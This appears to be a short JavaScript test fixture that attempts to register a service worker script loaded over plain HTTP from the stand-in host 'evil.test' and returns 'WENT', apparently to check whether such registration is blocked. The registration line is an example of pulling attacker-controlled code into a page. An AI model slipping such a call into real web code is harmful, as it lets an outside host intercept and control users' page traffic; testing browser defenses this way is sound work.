// A service worker.

await navigator.serviceWorker.register('http://evil.test/x.js');
return 'WENT';
